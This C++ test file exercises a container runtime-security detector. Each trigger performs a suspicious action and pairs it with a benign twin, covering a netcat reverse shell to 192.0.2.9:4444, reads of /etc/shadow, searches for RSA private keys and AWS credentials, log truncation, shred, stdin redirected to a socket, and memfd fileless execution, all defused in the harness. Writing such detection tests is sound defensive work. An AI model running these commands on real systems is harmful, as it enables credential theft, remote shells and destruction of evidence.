#include "tests/e2e_rules/triggers.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>

namespace sluice::test {
namespace {

void Execute(const std::string& file, const std::vector<std::string>& arguments) {
  std::vector<char*> argv;
  for (const std::string& argument : arguments) argv.push_back(const_cast<char*>(argument.c_str()));
  argv.push_back(nullptr);
  execv(file.c_str(), argv.data());
  Check(false, file.c_str());
}

// Runs a program by its name or path, as a child; what it ends with does not matter.
void RunChild(const Surroundings& here, const std::vector<std::string>& arguments) {
  const pid_t child = fork();
  if (child == 0) {
    // What it writes is no matter of the test's.
    const int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd <= 2; ++fd) dup2(null, fd);
    Execute(here.Program(arguments[0]), arguments);
  }
  int status = 0;
  Check(waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) < 100, arguments[0].c_str());
}

Body Runs(std::vector<std::string> arguments) {
  return [arguments = std::move(arguments)](const Surroundings& here) { RunChild(here, arguments); };
}

Body Opens(std::string path, int flags, int error = 0) {
  return [path = std::move(path), flags, error](const Surroundings&) {
    const int fd = open(path.c_str(), flags, 0644);
    Check(error == 0 ? fd >= 0 : fd < 0 && errno == error, path.c_str());
  };
}

// From those that are in effect.
void DropCapability(std::uint32_t capability) {
  __user_cap_header_struct header{.version = _LINUX_CAPABILITY_VERSION_3, .pid = 0};
  __user_cap_data_struct sets[_LINUX_CAPABILITY_U32S_3];
  Check(syscall(SYS_capget, &header, sets) == 0, "capget");
  sets[CAP_TO_INDEX(capability)].effective &= ~CAP_TO_MASK(capability);
  Check(syscall(SYS_capset, &header, sets) == 0, "capset");
}

sockaddr_in AddressOf(const std::string& address, std::uint16_t port) {
  sockaddr_in out{};
  out.sin_family = AF_INET;
  out.sin_port = htons(port);
  Check(inet_pton(AF_INET, address.c_str(), &out.sin_addr) == 1, address.c_str());
  return out;
}

// Does not wait for an answer. The port that it is from.
std::uint16_t BeginConnection(int fd, const std::string& address, std::uint16_t port) {
  const sockaddr_in to = AddressOf(address, port);
  Check(connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0 || errno == EINPROGRESS, "connect");
  sockaddr_in from{};
  socklen_t size = sizeof(from);
  Check(getsockname(fd, reinterpret_cast<sockaddr*>(&from), &size) == 0, "getsockname");
  return ntohs(from.sin_port);
}

Body ConnectsTo(std::function<std::string(const Surroundings&)> address, std::uint16_t port) {
  return [address = std::move(address), port](const Surroundings& here) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    here.notes().Note("port", std::to_string(BeginConnection(fd, address(here), port)));
  };
}
std::string ApiServer(const Surroundings& here) { return here.api_address(); }
std::string OtherPod(const Surroundings& here) { return here.other_address(); }
std::string ApiService(const Surroundings&) { return kApiService; }

// A connection to itself, whose socket becomes descriptor `number`.
Body RedirectsTo(int number) {
  return [number](const Surroundings&) {
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    const sockaddr_in at = AddressOf("127.0.0.1", 4444);
    const int yes = 1;
    Check(setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes)) == 0, "reuse");
    Check(bind(listener, reinterpret_cast<const sockaddr*>(&at), sizeof(at)) == 0, "bind");
    Check(listen(listener, 1) == 0, "listen");
    const int client = socket(AF_INET, SOCK_STREAM, 0);
    Check(connect(client, reinterpret_cast<const sockaddr*>(&at), sizeof(at)) == 0, "connect");
    Check(syscall(SYS_dup3, client, number, 0) == number, "dup3");
  };
}

Body MakesSocket(int domain, int type, int protocol) {
  return [=](const Surroundings&) { Check(socket(domain, type, protocol) >= 0, "socket"); };
}

// Of no use to any kernel.
void LoadModule(const Surroundings& here) {
  const char junk[64] = "no module";
  const long result = syscall(SYS_init_module, junk, sizeof(junk), "");
  here.notes().Note("res", result == 0 ? "SUCCESS" : strerrorname_np(errno));
}

void Trace(enum __ptrace_request request) {
  const pid_t child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  const long result = ptrace(request, child, nullptr, nullptr);
  Check(result == 0 || request == PTRACE_PEEKTEXT, "ptrace");
  kill(child, SIGKILL);
  waitpid(child, nullptr, __WALL);
}

// A terminal of the container's own, which the program has; `program` is the parent of a shell.
Body RunsShellAt(bool terminal, const std::string& program) {
  return [terminal, program](const Surroundings& here) {
    const pid_t child = fork();
    if (child == 0) {
      Check(setsid() > 0, "a session");
      if (terminal) {
        const int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
        Check(master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0, "a terminal");
        const int slave = open(ptsname(master), O_RDWR | O_NOCTTY);
        struct stat info {};
        Check(slave >= 0 && ioctl(slave, TIOCSCTTY, 0) == 0 && fstat(slave, &info) == 0, "the terminal");
        here.notes().Note("tty", std::to_string(info.st_rdev));
      }
      Execute(here.Program(program), {program, "-c", "/bin/sh -c 'exit 0'; :"});
    }
    int status = 0;
    Check(waitpid(child, &status, 0) == child && status == 0, program.c_str());
  };
}

// A copy of a program where nothing of the image is.
Body DropsAndRuns(const std::string& path) {
  return [path](const Surroundings& here) {
    fs::copy_file("/bin/true", path);
    struct stat info {};
    Check(stat(path.c_str(), &info) == 0, path.c_str());
    here.notes().Note("ctime", std::to_string(info.st_ctim.tv_sec * 1'000'000'000LL + info.st_ctim.tv_nsec));
    RunChild(here, {path, "dropped"});
  };
}

// Runs cat, which tells what the kernel calls it, by a descriptor: of a file in memory, or of the program's own.
Body RunsByDescriptor(const std::string& memory) {
  return [memory](const Surroundings& here) {
    int program = open("/bin/cat", O_RDONLY | O_CLOEXEC);
    if (!memory.empty()) {
      const int copy = memfd_create(memory.c_str(), MFD_CLOEXEC);
      char bytes[1 << 16];
      for (ssize_t size; (size = read(program, bytes, sizeof(bytes))) > 0;)
        Check(write(copy, bytes, static_cast<std::size_t>(size)) == size, "a copy");
      program = copy;
    }
    int ends[2];
    Check(pipe(ends) == 0, "pipe");
    const pid_t child = fork();
    if (child == 0) {
      dup2(ends[1], STDOUT_FILENO);
      const char* const arguments[] = {"cat", "/proc/self/comm", nullptr};
      fexecve(program, const_cast<char**>(arguments), environ);
      Check(false, "fexecve");
    }
    close(ends[1]);
    char name[64] = "";
    const ssize_t size = read(ends[0], name, sizeof(name) - 1);
    Check(size > 1, "its name");
    name[size - 1] = '\0';
    here.notes().Note("name", name);
    waitpid(child, nullptr, 0);
  };
}

// Both paths on the container's own file system.
Body Links(int (*how)(const char*, const char*), const std::string& target) {
  return [how, target](const Surroundings&) { Check(how(target.c_str(), "/var/tmp/link") == 0, target.c_str()); };
}

Body Greps(const std::string& text) { return Runs({"/bin/grep", "-r", text, "/etc/hostname"}); }

// Connects a socket that does not wait, in Perl: the program is known by the name that it is given.
Body SshTo(std::uint16_t port) {
  return Runs({"ssh", "-e",
               fmt::format("use Socket; socket(S, AF_INET, SOCK_STREAM | 2048, 0) or exit 101; connect(S, "
                           "pack_sockaddr_in({}, inet_aton('198.51.100.7'))) or $!{{EINPROGRESS}} or exit 102;",
                           port)});
}

const NamedPrograms kSsh = {{"ssh", "/usr/bin/perl"}};

std::string Self() {
  char name[17] = "";
  prctl(PR_GET_NAME, name);
  return name;
}

}  // namespace

Body ConnectsToApiServer() { return ConnectsTo(ApiServer, kApiPort); }

std::vector<Trigger> Triggers() {
  const std::string untrusted = "Read sensitive file untrusted";
  const std::string dropped = "/usr/local/bin/dropped";
  std::vector<Trigger> all = {
      {.rule = "Directory traversal monitored file read",
       .does = {Opens("/usr/lib/../../etc/passwd", O_RDONLY)},
       .fields = {{"fd.name", "/etc/passwd"},
                  {"fd.nameraw", "/usr/lib/../../etc/passwd"},
                  {"evt.type", "openat"},
                  {"proc.name", Self()}},
       .twin = {Opens("/usr/../etc/passwd", O_RDONLY)}},
      {.rule = "Directory traversal monitored file read",
       .does = {Opens("/usr/lib/../../etc/not-there", O_RDONLY, ENOENT)},
       .fields = {{"fd.name", "/etc/not-there"}, {"fd.nameraw", "/usr/lib/../../etc/not-there"}},
       .twin = {Opens("/usr/lib/../../srv/not-there", O_RDONLY, ENOENT)},
       .variant = "Failed"},
      {.rule = "Read sensitive file trusted after startup",
       .does = {Runs({"nginx", "-c", "read x </etc/shadow; /bin/sleep 5.1; read x </etc/shadow"}),
                Place::kContainer,
                {{"nginx", "/bin/sh"}}},
       .fields = {{"fd.name", "/etc/shadow"},
                  {"proc.name", "nginx"},
                  {"proc.exepath", "/usr/local/bin/nginx"},
                  {"proc.pname", Self()}},
       .twin = {Runs({"nginx", "-c", "read x </etc/shadow"}), Place::kContainer, {{"nginx", "/bin/sh"}}},
       .also = {untrusted, untrusted},
       .twin_also = {untrusted}},
      {.rule = untrusted,
       .does = {Runs({"/bin/cat", "/etc/shadow"})},
       .fields = {{"fd.name", "/etc/shadow"}, {"proc.name", "cat"}, {"proc.cmdline", "cat /etc/shadow"}},
       .twin = {Runs({"iptables", "/etc/shadow"}), Place::kContainer, {{"iptables", "/bin/cat"}}}},
      {.rule = "Run shell untrusted",
       .does = {Runs({"nginx", "-c", "/bin/sh -c 'exit 0'; :"}), Place::kContainer, {{"nginx", "/bin/sh"}}},
       .fields = {{"proc.name", "sh"},
                  {"proc.cmdline", "sh -c exit 0"},
                  {"proc.pname", "nginx"},
                  {"proc.pexepath", "/usr/local/bin/nginx"},
                  {"proc.pcmdline", "nginx -c /bin/sh -c 'exit 0'; :"},
                  {"proc.aname[2]", Self()},
                  {"evt.type", "execve"}},
       .twin = {Runs({"gateway", "-c", "/bin/sh -c 'exit 0'; :"}), Place::kContainer, {{"gateway", "/bin/sh"}}}},
      {.rule = "System user interactive",
       .does = {Runs({"sshd", "-c", "/usr/bin/setpriv --reuid=33 --clear-groups /bin/true; :"}),
                Place::kHost,
                {{"sshd", "/bin/sh"}}},
       .fields = {{"user.name", "www-data"}, {"user.uid", "33"}, {"proc.name", "true"}, {"proc.pname", "sshd"}},
       .twin = {Runs({"sshd", "-c", "/usr/bin/setpriv --reuid=0 --clear-groups /bin/true; :"}),
                Place::kHost,
                {{"sshd", "/bin/sh"}}}},
      {.rule = "Terminal shell in container",
       .does = {RunsShellAt(true, "containerd-shim"), Place::kContainer, {{"containerd-shim", "/bin/sh"}}},
       .fields = {{"proc.tty", "@tty"}, {"proc.name", "sh"}, {"proc.pname", "containerd-shim"}},
       .twin = {RunsShellAt(false, "containerd-shim"), Place::kContainer, {{"containerd-shim", "/bin/sh"}}}},
      {.rule = "Contact K8S API Server From Container",
       .does = {ConnectsTo(ApiServer, kApiPort)},
       .fields = {{"evt.type", "connect"},
                  {"fd.type", "ipv4"},
                  {"fd.l4proto", "tcp"},
                  {"fd.lport", "@port"},
                  {"fd.rport", std::to_string(kApiPort)}},
       .twin = {ConnectsTo(OtherPod, kApiPort)},
       .also = {"Names known"}},
      {.rule = "Contact K8S API Server From Container",
       .does = {ConnectsTo(ApiService, 443)},
       .fields = {{"evt.type", "connect"}, {"fd.lport", "@port"}},
       .twin = {ConnectsTo(ApiServer, kApiPort), Place::kTrusted},
       .also = {"Names known"},
       .twin_also = {"Names known"},
       .variant = "ByItsService"},
      {.rule = "Netcat Remote Code Execution in Container",
       .does = {Runs({"nc", "-e", "/bin/sh", "192.0.2.9", "4444"}), Place::kContainer, {{"nc", "/bin/true"}}},
       .fields = {{"proc.name", "nc"}, {"proc.cmdline", "nc -e /bin/sh 192.0.2.9 4444"}},
       .twin = {Runs({"nc", "192.0.2.9", "4444"}), Place::kContainer, {{"nc", "/bin/true"}}}},
      {.rule = "Search Private Keys or Passwords",
       .does = {Greps("BEGIN RSA PRIVATE")},
       .fields = {{"proc.name", "grep"}, {"proc.cmdline", "grep -r BEGIN RSA PRIVATE /etc/hostname"}},
       .twin = {Greps("BEGIN CERTIFICATE")}},
      {.rule = "Search Private Keys or Passwords",
       .does = {Runs({"/usr/bin/find", "/srv", "-name", "id_rsa"})},
       .fields = {{"proc.name", "find"}, {"proc.cmdline", "find /srv -name id_rsa"}},
       .twin = {Runs({"/usr/bin/find", "/srv", "-name", "readme"})},
       .variant = "ByFind"},
      {.rule = "Clear Log Activities",
       .does = {Opens("/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC)},
       .fields = {{"fd.name", "/var/log/syslog"}, {"evt.type", "openat"}},
       .twin = {Opens("/var/log/syslog", O_WRONLY | O_CREAT | O_APPEND)}},
      {.rule = "Remove Bulk Data from Disk",
       .does = {Runs({"/usr/bin/shred", "-u", "/srv/not-there"})},
       .fields = {{"proc.name", "shred"}, {"proc.cmdline", "shred -u /srv/not-there"}},
       .twin = {Runs({"/bin/rm", "-f", "/srv/not-there"})}},
      {.rule = "Create Symlink Over Sensitive Files",
       .does = {Links(symlink, "/etc/shadow")},
       .fields = {{"evt.arg.target", "/etc/shadow"}, {"evt.arg.linkpath", "/var/tmp/link"}, {"proc.name", Self()}},
       .twin = {Links(symlink, "/etc/hostname")}},
      {.rule = "Create Hardlink Over Sensitive Files",
       .does = {Links(link, "/etc/shadow")},
       .fields = {{"evt.arg.oldpath", "/etc/shadow"}, {"evt.arg.newpath", "/var/tmp/link"}, {"proc.name", Self()}},
       .twin = {Links(link, "/etc/passwd")}},
      {.rule = "Packet socket created in container",
       .does = {MakesSocket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))},
       .fields = {{"evt.type", "socket"}, {"evt.args", "*"}, {"proc.name", Self()}},
       .twin = {MakesSocket(AF_INET, SOCK_RAW, IPPROTO_ICMP)}},
      {.rule = "Packet socket created in container",
       .does = {MakesSocket(AF_PACKET, SOCK_DGRAM, 0)},
       .fields = {{"evt.type", "socket"}},
       .twin = {MakesSocket(AF_PACKET, SOCK_DGRAM, 0), Place::kHost},
       .variant = "NotOnTheHost"},
      {.rule = "Redirect STDOUT/STDIN to Network Connection in Container",
       .does = {RedirectsTo(STDIN_FILENO)},
       .fields = {{"evt.type", "dup3"},
                  {"fd.sip", "127.0.0.1"},
                  {"fd.rport", "4444"},
                  {"fd.type", "ipv4"},
                  {"fd.l4proto", "tcp"}},
       .twin = {RedirectsTo(200)}},
      {.rule = "Linux Kernel Module Injection Detected",
       .does = {LoadModule},
       .fields = {{"evt.type", "init_module"}, {"evt.res", "@res"}, {"proc.name", Self()}},
       .twin = {[](const Surroundings& here) {
         DropCapability(CAP_SYS_MODULE);
         LoadModule(here);
       }}},
      {.rule = "Debugfs Launched in Privileged Container",
       .does = {Runs({"debugfs", "-V"}), Place::kPrivileged, {{"debugfs", "/bin/true"}}},
       .fields = {{"proc.name", "debugfs"}, {"proc.exepath", "/usr/local/bin/debugfs"}},
       .twin = {Runs({"debugfs", "-V"}), Place::kContainer, {{"debugfs", "/bin/true"}}}},
      {.rule = "Detect release_agent File Container Escapes",
       .does = {Opens("/tmp/release_agent", O_WRONLY | O_CREAT)},
       .fields = {{"fd.name", "/tmp/release_agent"}, {"thread.cap_effective", "*"}},
       .twin = {[](const Surroundings& here) {
         DropCapability(CAP_SYS_ADMIN);
         Opens("/tmp/release_agent", O_WRONLY | O_CREAT)(here);
       }}},
      {.rule = "PTRACE attached to process",
       .does = {[](const Surroundings&) { Trace(PTRACE_ATTACH); }},
       .fields = {{"evt.type", "ptrace"}, {"proc.name", Self()}},
       .twin = {[](const Surroundings&) { Trace(PTRACE_PEEKTEXT); }}},
      {.rule = "PTRACE anti-debug attempt",
       .does = {[](const Surroundings&) { Check(ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0, "ptrace"); }},
       .fields = {{"evt.type", "ptrace"}, {"proc.name", Self()}},
       .twin = {[](const Surroundings&) { ptrace(PTRACE_PEEKTEXT, 0, nullptr, nullptr); }}},
      {.rule = "Find AWS Credentials",
       .does = {Greps("aws_access_key_id")},
       .fields = {{"proc.name", "grep"},
                  {"proc.cmdline", "grep -r aws_access_key_id /etc/hostname"},
                  {"proc.cwd", "/"}},
       .twin = {Greps("aws_region")}},
      {.rule = "Find AWS Credentials",
       .does = {Runs({"/usr/bin/find", "/srv", "-wholename", "*/.aws/credentials"})},
       .fields = {{"proc.cmdline", "find /srv -wholename */.aws/credentials"}},
       .twin = {Runs({"/usr/bin/find", "/srv", "-wholename", "*/.aws/config"})},
       .variant = "ByFind"},
      {.rule = "Execution from /dev/shm",
       .does = {DropsAndRuns("/dev/shm/dropped")},
       .fields = {{"proc.name", "dropped"}, {"proc.exepath", "/dev/shm/dropped"}, {"evt.res", "SUCCESS"}},
       .twin = {DropsAndRuns("/run/dropped")}},
      {.rule = "Drop and execute new binary in container",
       .does = {DropsAndRuns(dropped)},
       .fields = {{"proc.exe", dropped},
                  {"proc.exepath", dropped},
                  {"proc.name", "dropped"},
                  {"proc.exe_ino.ctime", "@ctime"},
                  {"container.start_ts", "*"}},
       .twin = {Runs({"from-image"}), Place::kContainer, {{"from-image", "/bin/true"}}}},
      {.rule = "Disallowed SSH Connection Non Standard Port",
       .does = {SshTo(443), Place::kContainer, kSsh},
       .fields = {{"evt.type", "connect"}, {"fd.rport", "443"}, {"fd.l4proto", "tcp"}, {"proc.name", "ssh"}},
       .twin = {SshTo(22), Place::kContainer, kSsh}},
      {.rule = "Fileless execution via memfd_create",
       .does = {RunsByDescriptor("payload")},
       .fields = {{"proc.exepath", "memfd:payload"},
                  {"proc.name", "@name"},
                  {"evt.res", "SUCCESS"},
                  {"container.start_ts", "*"}},
       .twin = {RunsByDescriptor("")}},
      {.rule = "Fileless execution via memfd_create",
       .does = {RunsByDescriptor("payload")},
       .fields = {{"proc.exepath", "memfd:payload"}},
       .twin = {RunsByDescriptor("runc_cloned:/proc/self/exe")},
       .variant = "ButNotRuncsOwn"},
  };
  return all;
}

}  // namespace sluice::test
